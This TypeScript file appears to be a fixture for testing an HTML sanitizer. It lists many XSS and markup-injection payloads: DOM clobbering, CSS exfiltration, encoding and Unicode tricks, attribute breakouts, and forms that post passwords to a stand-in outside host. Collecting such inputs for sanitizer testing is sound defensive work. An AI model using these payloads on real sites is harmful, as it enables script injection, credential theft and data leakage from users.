import { ACT, ELSEWHERE, of, type Payload } from './payload.ts';

const IMG = `<img src=x onerror=${ACT}>`;

/** Names that would take the place of the document's own. */
export const CLOBBERS: readonly Payload[] = of('clobbering', [
  `<img name=getElementById>`,
  `<form name=body><input name=appendChild></form>`,
  `<form id=x><input name=attributes><input name=nodeName></form>`,
  `<form onclick=${ACT}><input id=attributes>Hei`,
  `<a id=defaultView></a><a id=defaultView name=location href="${ELSEWHERE}">Les mer</a>`,
  `<img name=cookie><img name=cookie>`,
  `<form name=document><input name=cookie value=x></form>`,
  `<a id=hacked href="https://elsewhere.invalid">Les mer</a>`,
  `<iframe name=hacked srcdoc="<a id=config></a>"></iframe>`,
  `<embed name=querySelector><object name=querySelectorAll></object>`,
  `<p id=root>Hei</p>`,
  `<p id=main>Hei</p><a name=main>Hei</a>`,
  `<p id=__proto__>Hei</p><p id=constructor>Hei</p>`,
  `<input name=trustedTypes><img id=trustedTypes>`,
  `<p class="loading" slot=x part=y>Hei</p>`,
  `<p data-theme=dark data-reactroot aria-hidden=true role=alert>Hei</p>`,
]);

/** Style that shows something else, hides what is there, or asks for something. */
export const STYLES: readonly Payload[] = of('css', [
  `<style>body{display:none}</style>`,
  `<style>@import url(${ELSEWHERE}/a.css);</style>`,
  `<style>@import"javascript:${ACT}";</style>`,
  `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/a.woff)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${ELSEWHERE}/a)}</style>`,
  `<p style="background:url(${ELSEWHERE}/a.png)">Hei</p>`,
  `<p style="background:url(javascript:${ACT})">Hei</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red">Logg inn her</p>`,
  `<p style="width:expression(${ACT})">Hei</p>`,
  `<p style="behavior:url(${ELSEWHERE}/a.htc)">Hei</p>`,
  `<p style="-moz-binding:url(${ELSEWHERE}/a.xml#x)">Hei</p>`,
  `<p style="b\\61 ckground:u\\72l(${ELSEWHERE}/a.png)">Hei</p>`,
  `<p style="--brand:red;--root:none">Hei</p>`,
  `<font color=red size=7 face=x>Hei</font>`,
  `<style><!--</style>${IMG}-->`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<center bgcolor=red align=right>Hei</center>`,
]);

/** Signs written in other ways than as themselves. */
export const ENCODINGS: readonly Payload[] = of('encoding', [
  `<a href="&#0000106avascript&#x0003A;${ACT}">Les mer</a>`,
  `<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a${ACT}">Les mer</a>`,
  `<img src=x onerror="&#119;&#105;ndow.hacked=1">`,
  `<img src=x onerror="&lbrace;${ACT}&rbrace;">`,
  `<p>\u0000<scr\u0000ipt>${ACT}</scr\u0000ipt>${IMG}</p>`,
  `<img\u0000 src=x onerror=${ACT}>`,
  `<img\u000csrc=x\u000conerror=${ACT}>`,
  `<a href="java\u0000script:${ACT}">Les mer</a>`,
  `<a href="\u00a0javascript:${ACT}">Les mer</a>`,
  `<a href="\u2028javascript:${ACT}">Les mer</a>`,
  `<a href="%6Aavascript:${ACT}">Les mer</a>`,
  `<meta charset=utf-7>+ADw-script+AD4-${ACT}+ADw-/script+AD4-`,
  `<meta http-equiv=Content-Type content="text/html; charset=iso-2022-jp">\u001b$B${IMG}`,
  `<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>`,
  `&lt;b&gt;<img src=x onerror=${ACT}>&lt;/b&gt;`,
  `<a href="data:text/html;charset=utf-16,%ff%fe%3c%00">Les mer</a>`,
]);

/** Values and names that end sooner, or later, than they seem to. */
export const ATTRIBUTES: readonly Payload[] = of('attribute', [
  `"><script>${ACT}</script>`,
  `'><img src=x onerror=${ACT}>`,
  `"/><svg onload=${ACT}>`,
  `<a href="https://elsewhere.invalid" title="x" x" onclick="${ACT}">Les mer</a>`,
  `<a href='https://elsewhere.invalid' title='"><img src=x onerror=${ACT}>' >Les mer</a>`,
  `<a href="https://elsewhere.invalid"onclick="${ACT}">Les mer</a>`,
  `<a href=https://elsewhere.invalid/onclick=${ACT} onclick=${ACT}>Les mer</a>`,
  `<a =onclick="x" onclick=${ACT} href="https://elsewhere.invalid">Les mer</a>`,
  `<p <script>${ACT}</script>>Hei</p>`,
  `<p title=\`>${IMG}\`>Hei</p>`,
  `<img src="x\` \`<script>${ACT}</script>"\` \`>`,
  `<a href="https://elsewhere.invalid" href="javascript:${ACT}" rel="opener" target="_top">Les mer</a>`,
  `<p xml:base="javascript:${ACT}" xmlns="x" xmlns:on="y" on:click=${ACT}>Hei</p>`,
  `<p/onclick=${ACT}/style=display:none/id=x>Hei</p>`,
  `<b is="x-b" nonce="x" integrity="y" onclick=${ACT}>Hei</b>`,
  `<a href="https://elsewhere.invalid" attributionsrc="${ELSEWHERE}/x" referrerpolicy=unsafe-url>Les mer</a>`,
  `<p onclick onclick=${ACT} ONCLICK=${ACT}>Hei</p>`,
  `<p contenteditable inert hidden dir=rtl lang=x accesskey=l draggable=true>Hei</p>`,
]);

/** Markup that asks a visitor for something in the center's name. */
export const FORMS: readonly Payload[] = of('form', [
  `<form action="${ELSEWHERE}"><input name=password type=password><button>Logg inn</button></form>`,
  `<form action="javascript:${ACT}"><input type=submit></form>`,
  `<button formaction="javascript:${ACT}">Logg inn</button>`,
  `<input type=image src="${ELSEWHERE}/a.png" formaction="${ELSEWHERE}">`,
  `<isindex action="javascript:${ACT}" type=image>`,
  `<form id=f></form><button form=f formaction="${ELSEWHERE}">Logg inn</button>`,
  `<textarea name=x autofocus></textarea>`,
  `<input type=hidden name=x value=y oncontentvisibilityautostatechange=${ACT} style=content-visibility:auto>`,
  `<button commandfor=x command=show-modal>Vis</button><dialog id=x>Hei</dialog>`,
  `<keygen autofocus onfocus=${ACT}>`,
]);

/** Letters that look like others, or turn a line around. */
export const UNICODES: readonly Payload[] = of('unicode', [
  `<ſcript>${ACT}</ſcript>${IMG}`,
  `<a href="ｊavascript:${ACT}">Les mer</a>`,
  `<a href="java\u200bscript:${ACT}">Les mer</a>`,
  `<a href="java\u00adscript:${ACT}">Les mer</a>`,
  `<a href="\ufeffjavascript:${ACT}">Les mer</a>`,
  `<a href="javaſcript:${ACT}">Les mer</a>`,
  `<a href="\u202ehttps://elsewhere.invalid">Les mer</a>`,
  `<a href="httpſ://elsewhere.invalid">Les mer</a>`,
  `<ımg src=x onerror=${ACT}><İmg src=x onerror=${ACT}>${IMG}`,
  `\ud800<img src=x onerror=${ACT}>\udfff`,
  `<p \u2003onclick=${ACT} onclick=${ACT}>Hei</p>`,
  `<img src=x o\u0301nerror=x onerror=${ACT}>`,
]);
